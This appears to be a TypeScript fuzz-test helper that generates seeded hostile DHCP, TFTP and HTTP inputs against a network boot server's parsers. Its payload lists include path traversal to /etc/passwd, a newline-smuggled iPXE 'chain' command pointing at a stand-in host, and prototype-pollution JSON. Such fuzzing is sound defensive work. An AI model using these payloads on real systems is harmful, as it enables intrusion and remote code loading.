import { encodePacket } from '../../server/dhcp/packet.js';

/**
 * Seeded generators of hostile input for the server's three listeners: DHCP packets, TFTP packets
 * and HTTP requests. The same seed gives the same sequence, so a failure found by the fuzz test is
 * replayed by running it again. Each generator mixes pure noise (which must be dropped cheaply)
 * with near-valid input (which reaches the parsers' and handlers' deeper paths).
 */

export type Rng = () => number;

/** mulberry32: small, fast, and good enough to pick cases; not for anything secret. */
export function seeded(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const int = (rng: Rng, lo: number, hi: number) => lo + Math.floor(rng() * (hi - lo + 1));
export const pick = <T>(rng: Rng, items: readonly T[]): T => items[Math.floor(rng() * items.length)]!;
export const bytes = (rng: Rng, n: number) => Buffer.from(Array.from({ length: n }, () => int(rng, 0, 255)));

function randomMac(rng: Rng): Buffer {
  const mac = bytes(rng, 6);
  mac[0] = (mac[0]! & 0xfe) | 0x02; // locally administered unicast: never a real vendor's
  return mac;
}

/** Text that hurts parsers and paths: traversal, separators, control bytes, overlong, non-ASCII. */
function nastyText(rng: Rng): string {
  return pick(rng, [
    () => '../'.repeat(int(rng, 1, 12)) + 'etc/passwd',
    () => '..\\..\\windows\\win.ini',
    () => 'x\nshell\nchain http://203.0.113.9/evil',
    () => '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    () => 'a'.repeat(int(rng, 200, 5000)),
    () => '\u0000\u0001\u00ff',
    () => 'ünïcødé/🚀',
    () => '.incoming-1/manifest.json',
    () => '/absolute/path',
    () => '',
    () => bytes(rng, int(rng, 1, 64)).toString('latin1'),
    () => String(int(rng, -1e9, 1e9)),
  ])();
}

export type DhcpKind = 'noise' | 'mutated' | 'random-options' | 'valid-new-mac';

const ARCH = [0, 6, 7, 9, 10, 11, 16, 0xffff];

function validDiscover(rng: Rng, mac: Buffer, type = 1): Buffer {
  const arch = pick(rng, ARCH);
  const options: Array<[number, Buffer]> = [
    [53, Buffer.from([type])],
    [55, Buffer.from([1, 3, 6, 15, 43, 60, 66, 67, 128, 129, 130])],
    [60, Buffer.from(`PXEClient:Arch:${String(arch).padStart(5, '0')}:UNDI:003016`)],
    [93, Buffer.from([arch >> 8, arch & 0xff])],
    [97, Buffer.concat([Buffer.from([0]), bytes(rng, 16)])],
  ];
  if (rng() < 0.3) options.push([77, Buffer.from('iPXE')]);
  if (type === 3) options.push([50, Buffer.from([10, int(rng, 0, 255), int(rng, 0, 255), int(rng, 1, 254)])]);
  return encodePacket({ op: 1, xid: int(rng, 0, 0xffffffff), chaddr: mac, flags: 0x8000, options });
}

export function dhcpPacket(rng: Rng): { kind: DhcpKind; packet: Buffer } {
  const kind = pick<DhcpKind>(rng, ['noise', 'mutated', 'mutated', 'random-options', 'valid-new-mac']);
  if (kind === 'noise') return { kind, packet: bytes(rng, pick(rng, [0, 1, 4, 235, 240, 241, 300, 576, 1400])) };
  if (kind === 'valid-new-mac') return { kind, packet: validDiscover(rng, randomMac(rng), pick(rng, [1, 1, 3, 7, 8])) };
  if (kind === 'random-options') {
    const head = validDiscover(rng, randomMac(rng)).subarray(0, 240);
    const parts: Buffer[] = [head];
    for (let i = int(rng, 0, 40); i > 0; i--) {
      const code = int(rng, 0, 255);
      const claimed = int(rng, 0, 255);
      // The length byte often lies about what follows: the parser must bound every read.
      parts.push(Buffer.from([code, claimed]), bytes(rng, rng() < 0.5 ? claimed : int(rng, 0, 300)));
    }
    if (rng() < 0.5) parts.push(Buffer.from([255]));
    return { kind, packet: Buffer.concat(parts) };
  }
  const packet = Buffer.from(validDiscover(rng, randomMac(rng), pick(rng, [1, 3])));
  for (let i = int(rng, 1, 12); i > 0; i--) {
    const at = int(rng, 0, packet.length - 1);
    packet[at] = packet[at]! ^ (1 << int(rng, 0, 7));
  }
  return { kind, packet: rng() < 0.3 ? packet.subarray(0, int(rng, 0, packet.length)) : packet };
}

export type TftpKind = 'noise' | 'rrq' | 'wrq' | 'stray' | 'unknown-opcode';

const MODES = ['octet', 'netascii', 'mail', 'OCTET', '', 'x'.repeat(300)];
const TFTP_OPTIONS = ['blksize', 'tsize', 'timeout', 'windowsize', 'multicast', 'BLKSIZE', ''];

function tftpRequest(rng: Rng, opcode: number): Buffer {
  const name = rng() < 0.3 ? pick(rng, ['undionly.kpxe', 'ipxe.efi', 'snponly.efi', 'pxelinux.0']) : nastyText(rng);
  const fields = [name, pick(rng, MODES)];
  for (let i = int(rng, 0, 5); i > 0; i--) fields.push(pick(rng, TFTP_OPTIONS), pick(rng, ['0', '8', '512', '1468', '65464', '65465', '-1', '99999999999', 'abc', '']));
  const body = Buffer.from(fields.join('\0') + (rng() < 0.8 ? '\0' : ''), 'latin1');
  return Buffer.concat([Buffer.from([0, opcode]), body]);
}

export function tftpPacket(rng: Rng): { kind: TftpKind; packet: Buffer } {
  const kind = pick<TftpKind>(rng, ['noise', 'rrq', 'rrq', 'wrq', 'stray', 'unknown-opcode']);
  if (kind === 'noise') return { kind, packet: bytes(rng, pick(rng, [0, 1, 2, 3, 4, 516, 1500])) };
  if (kind === 'rrq') return { kind, packet: tftpRequest(rng, 1) };
  if (kind === 'wrq') return { kind, packet: tftpRequest(rng, 2) };
  if (kind === 'unknown-opcode') return { kind, packet: Buffer.concat([Buffer.from([int(rng, 0, 255), int(rng, 7, 255)]), bytes(rng, int(rng, 0, 100))]) };
  // DATA, ACK, ERROR and OACK sent to the listening port, where only requests belong.
  const opcode = int(rng, 3, 6);
  return { kind, packet: Buffer.concat([Buffer.from([0, opcode]), bytes(rng, int(rng, 0, 600))]) };
}

export interface HttpCase {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: Buffer;
  /** Sent with the admin token, so validation past authentication is reached too. */
  admin: boolean;
}

const METHODS = ['GET', 'GET', 'POST', 'POST', 'PUT', 'DELETE', 'PATCH', 'HEAD', 'OPTIONS'];

function segment(rng: Rng): string {
  return pick(rng, [
    () => String(int(rng, -5, 1e12)),
    () => encodeURIComponent(nastyText(rng)),
    () => nastyText(rng).replace(/[?#]/g, ''),
    () => 'a'.repeat(int(rng, 250, 300)),
    () => '%00',
    () => '%ff%fe',
    () => '..',
    () => bytes(rng, 6).toString('hex').replace(/(..)(?!$)/g, '$1:'),
    () => 'golden',
  ])();
}

function httpPath(rng: Rng): string {
  const s = () => segment(rng);
  const path = pick(rng, [
    () => `/api/v1/tasks${rng() < 0.5 ? '' : `/${s()}`}`,
    () => `/api/v1/tasks/${s()}/${pick(rng, ['cancel', 'files', 'rearm', 'events'])}${rng() < 0.5 ? '' : `/${s()}`}`,
    () => `/api/v1/hosts/${s()}${rng() < 0.5 ? '' : `/${pick(rng, ['boot-script', s()])}`}`,
    () => `/api/v1/images/${s()}${rng() < 0.5 ? '' : `/${s()}`}`,
    () => `/api/v1/${pick(rng, ['leases', 'events', 'hosts', 'images', 'status', s()])}`,
    () => `/agent/v1/tasks/${s()}/${pick(rng, ['progress', 'finish', 'files', s()])}${rng() < 0.3 ? `/${s()}` : ''}`,
    () => `/boot/${s()}${pick(rng, ['.ipxe', '', '.efi'])}`,
    () => `/boot/ipxe?mac=${s()}`,
    () => `/boot/rescue/${s()}`,
    () => `/store/${Array.from({ length: int(rng, 1, 6) }, s).join('/')}`,
    () => `/${s()}`,
    () => '/openapi.json',
  ])();
  const query = rng() < 0.3 ? `${path.includes('?') ? '&' : '?'}${pick(rng, ['state', 'limit', 'offset', 'cursor', 'mac', s()])}=${s()}` : '';
  return path + query;
}

/** JSON the task and agent endpoints expect, with types swapped, fields missing or added, and values out of range. */
function jsonBody(rng: Rng): string {
  const value = (): unknown =>
    pick(rng, [
      () => nastyText(rng),
      () => int(rng, -1e15, 1e15),
      () => 1e308 * 10,
      () => null,
      () => true,
      () => [pick(rng, ['nuke', 'capture', 'compare'])],
      () => ({ $ref: '#', __proto__: { polluted: 1 }, constructor: { prototype: { polluted: 1 } } }),
      () => pick(rng, ['nuke', 'capture', 'compare', 'golden', '52:54:00:12:34:56', 'latest']),
    ])();
  const fields = ['kind', 'mac', 'image', 'version', 'options', 'ok', 'error', 'result', 'stage', 'percent', 'message', 'disks', 'map', 'state', s2(rng)];
  const obj: Record<string, unknown> = {};
  for (let i = int(rng, 0, 8); i > 0; i--) obj[pick(rng, fields)] = value();
  const text = JSON.stringify(obj);
  return pick(rng, [
    () => text,
    () => text.slice(0, int(rng, 0, text.length)),
    () => '['.repeat(int(rng, 100, 5000)),
    () => `{"a":${'{"a":'.repeat(int(rng, 50, 2000))}1${'}'.repeat(50)}`,
    () => JSON.stringify(value()),
  ])();
}

function s2(rng: Rng): string {
  return nastyText(rng).slice(0, 50);
}

export function httpCase(rng: Rng): HttpCase {
  const method = pick(rng, METHODS);
  const headers: Record<string, string> = {};
  const admin = rng() < 0.4;
  if (!admin && rng() < 0.5) headers.authorization = pick(rng, ['Bearer ', 'Bearer x', `Bearer ${bytes(rng, 24).toString('base64url')}`, 'Basic Og==', 'bearer\t-', 'x'.repeat(4000)]);
  let body: Buffer | undefined;
  if (method !== 'GET' && method !== 'HEAD' && rng() < 0.8) {
    const type = pick(rng, ['application/json', 'application/json', 'application/octet-stream', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16', '']);
    if (type) headers['content-type'] = type;
    body = type.startsWith('application/json') && rng() < 0.8 ? Buffer.from(jsonBody(rng)) : bytes(rng, pick(rng, [0, 1, 100, 4096, 70_000]));
  }
  return { method, path: httpPath(rng), headers, ...(body ? { body } : {}), admin };
}
